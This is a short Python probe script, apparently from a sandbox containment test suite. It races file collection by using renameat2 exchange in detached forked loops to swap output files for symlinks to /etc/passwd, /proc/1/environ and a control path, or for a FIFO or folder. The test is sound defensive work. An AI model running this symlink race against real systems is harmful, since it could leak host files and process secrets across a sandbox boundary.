"""Swap a file for a link, a FIFO or a folder, in one step, all the time while files are collected.

Expected containment: collection comes after every process is dead, opens without following and
looks at what it has opened.
"""
# attack: {"max_collected": 16}

import os
import sys

from attack import contained, escaped, syscall

RENAMEAT2, EXCHANGE = 316, 2
TARGETS = ("/etc/passwd", "/etc/hostname", "/proc/1/environ", "/run/vibecell/control", sys.argv[1])
for number, target in enumerate(TARGETS):
    with open(f"{number}.txt", "w") as file:
        file.write("mine")
    os.symlink(target, f"/workspace/.{number}")
os.mkfifo(".fifo")
open("fifo.txt", "w").write("mine")
os.makedirs(".folder/etc")
os.symlink("/etc/passwd", ".folder/passwd")
open("folder.txt", "w").write("mine")


def exchange(one, other):
    return syscall(RENAMEAT2, -100, one.encode(), -100, other.encode(), EXCHANGE)


if exchange("fifo.txt", ".fifo") != 0:
    escaped("the probe does not work")
contained()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            for number in range(len(TARGETS)):
                exchange(f"{number}.txt", f".{number}")
            exchange("fifo.txt", ".fifo")
            exchange("folder.txt", ".folder")
